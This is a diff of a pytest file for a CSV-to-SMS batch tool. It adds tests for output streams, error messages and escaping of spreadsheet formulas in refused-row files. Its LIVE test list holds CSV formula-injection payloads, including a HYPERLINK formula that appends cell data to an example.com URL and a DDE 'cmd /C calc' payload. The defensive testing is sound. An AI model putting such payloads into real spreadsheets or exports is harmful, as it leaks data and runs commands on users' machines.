@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import io
 import json
 import re
 import signal
@@ -13,9 +14,12 @@ from pathlib import Path
 import pytest
 from batch_examples import HEADER, NUMBER, vendor_file
 from command_line import COMMAND, environment, in_terminal, invoke, one_complaint, posix_only
+from hypothesis import HealthCheck, example, given, settings
+from hypothesis import strategies as st
 from sources import ROOT
 
 import septet
+from septet.files.spreadsheet_cells import unguarded
 
 GOOD = 'Numéro;Message;Émetteur\r\n0612345678;"Été à 10 €, dit ""elle""";RDV\r\n33612345679;b;\r\n'
 GOOD_BATCH = HEADER + b'"0612345678","\xc9t\xe9 \xe0 10 \xa4, dit ""elle""","RDV"\n"33612345679","b",""\n'
@@ -67,6 +71,35 @@ def test_encoding_delimiter_and_columns_may_be_said() -> None:
 def test_standard_input_and_pipes() -> None:
     assert invoke("batch", "-", "out.csv", stdin=GOOD.encode("cp1252")).exit_code == 0
     assert Path("out.csv").read_bytes() == GOOD_BATCH
+
+
+@pytest.mark.parametrize("source", ["in.csv", "-"])
+def test_standard_output_takes_the_batch_file_or_the_refused_rows(source: str) -> None:
+    save(MIXED)
+    stdin = Path("in.csv").read_bytes()
+    first = invoke("batch", source, "-", "--rejects", "refused.csv", stdin=stdin)
+    second = invoke("batch", source, "out.csv", "--rejects", "-", stdin=stdin)
+    assert (first.exit_code, second.exit_code) == (1, 1)
+    assert first.stdout_bytes == Path("out.csv").read_bytes() == HEADER + b'"0612345678","a",""\n'
+    assert second.stdout_bytes == Path("refused.csv").read_bytes()
+    assert "standard output: 1 row, 1 billed segment, 1 in one message at most\n" in first.stderr
+    assert "refused.csv: 2 of 3 rows refused\n" in first.stderr
+    assert "standard output: 2 of 3 rows refused\n" in second.stderr
+    assert names() == ["in.csv", "out.csv", "refused.csv"]  # none is named -
+
+
+def test_standard_output_gets_nothing_of_a_file_that_is_not_whole() -> None:
+    save(MIXED)
+    result = invoke("batch", "in.csv", "-")
+    assert (result.exit_code, result.stdout_bytes) == (1, b"")
+    assert "nothing is written: 2 of 3 rows refused" in result.stderr
+
+
+def test_a_file_that_is_named_as_a_stream() -> None:
+    save(GOOD)
+    assert invoke("batch", "in.csv", "./-").exit_code == 0
+    assert Path("-").read_bytes() == GOOD_BATCH
+    assert invoke("batch", "-", "./-", "--force", stdin=GOOD.encode("cp1252")).exit_code == 0
 
 
 def test_lines_of_delimiters_alone_are_left_out() -> None:
@@ -132,6 +165,57 @@ def test_the_refused_rows_go_into_a_file_that_can_be_mended_and_given_again() ->
     assert "'line'" not in result.stderr
     # It is there all the same, so that an older one is not taken for this one's.
     assert Path("none.csv").read_text("utf-8-sig") == "numero;message;ville;line;problem\n"
+
+
+#: What a spreadsheet would run, or show without its first sign; each is a text all the same.
+LIVE = [
+    '=HYPERLINK("http://example.com?x="&A1;"Votre colis")',
+    *("=1+1", "@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3", "\t=1", " =1", '"=1', "\u00a0=1", "'=1", "'à 10 €"),
+]
+
+
+def table(rows: list[list[str]]) -> str:
+    text = io.StringIO(newline="")
+    csv.writer(text, delimiter=";").writerows(rows)
+    return text.getvalue()
+
+
+@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(st.lists(st.text(st.sampled_from("=+-@\t '\"a1;é\u00a0"), min_size=1, max_size=6), min_size=1))
+@example(LIVE)
+def test_refused_rows_hold_no_live_formula_and_come_back_as_they_were(texts: list[str]) -> None:
+    rows = [["numero", "message", "@ville", "'=1"], *([text, text, text, "=1"] for text in texts)]
+    kept = [row for row in rows if any(row)]
+    save(table(kept), "utf-8")
+    for number in range(3):  # refused again and again, it stays the same
+        source = "in.csv" if number == 0 else f"{number - 1}.csv"
+        result = invoke("batch", source, "out.csv", "--rejects", f"{number}.csv", "--force")
+        assert result.exit_code == 1, result.stderr
+        content = Path(f"{number}.csv").read_text("utf-8-sig")
+        found = list(csv.reader(io.StringIO(content, newline=""), delimiter=";"))
+        assert [[unguarded(cell) for cell in row[:4]] for row in found] == kept
+        for cell in (cell for row in found for cell in row):
+            begins = cell.lstrip(' "\u00a0\t')
+            assert begins[:1] not in ("=", "@"), cell
+            assert begins[:1] not in ("+", "-") or set(cell[1:]) <= set("0123456789 .,")
+
+
+def test_mended_rows_have_their_texts_as_they_were() -> None:
+    save(table([["numero", "message"], *(["12", text] for text in LIVE)]), "utf-8")
+    assert invoke("batch", "in.csv", "out.csv", "--rejects", "refused.csv").exit_code == 1
+    mended = Path("refused.csv").read_text("utf-8-sig").replace("\n12;", "\n0612345678;")
+    # What the one who mends it writes anew is no guard.
+    Path("mended.csv").write_text(mended + "0612345678;'t is;99;mine\n", "utf-8")
+    result = invoke("batch", "mended.csv", "out.csv", "--force")
+    texts = [row.text for row in septet.read_batch_file("out.csv")]
+    lossy = {"\t=1": "?=1", "\u00a0=1": "?=1"}
+    assert texts == [*(lossy.get(text, text) for text in LIVE), "'t is"], result.stderr
+
+
+def test_a_table_of_ones_own_is_read_as_it_stands() -> None:
+    save("numero;message\n0612345678;'=1\n")
+    invoke("batch", "in.csv", "out.csv")
+    assert [row.text for row in septet.read_batch_file("out.csv")] == ["'=1"]
 
 
 def test_rows_of_a_wrong_length_are_refused_alone() -> None:
@@ -242,14 +326,37 @@ WRONG = {
         ["in.csv", "out.csv", "--max-segments", "9"],
         "--max-segments: smsmode takes a whole number from 1 to 5",
     ),
-    "the file itself": (GOOD, ["in.csv", "./in.csv", "--force"], "OUT is IN ('./in.csv'): give another name"),
+    "the file itself": (
+        GOOD,
+        ["in.csv", "./in.csv", "--force"],
+        "OUT: ./in.csv is that of IN: expected another name",
+    ),
     "a file that is there": (GOOD, ["in.csv", "there.csv"], "OUT: there.csv is there already"),
     "refused rows where a file is": (
         GOOD,
         ["in.csv", "out.csv", "--rejects", "there.csv"],
         "--rejects: there.csv is there already",
     ),
-    "both in one file": (GOOD, ["in.csv", "out.csv", "--rejects", "out.csv"], "--rejects is OUT ('out.csv')"),
+    "both in one file": (
+        GOOD,
+        ["in.csv", "out.csv", "--rejects", "./out.csv"],
+        "OUT and --rejects name the same file: expected two names",
+    ),
+    "both on standard output": (
+        GOOD,
+        ["in.csv", "-", "--rejects", "-"],
+        "OUT and --rejects would both be on standard output: expected a file for one",
+    ),
+    "an answer in JSON beside a file": (
+        GOOD,
+        ["in.csv", "-", "--json"],
+        "OUT and --json would both be on standard output",
+    ),
+    "refused rows beside an answer in JSON": (
+        GOOD,
+        ["in.csv", "out.csv", "--rejects", "-", "--json"],
+        "--rejects and --json would both be on standard output",
+    ),
     "a folder that is not there": (
         GOOD,
         ["in.csv", "absent/out.csv"],
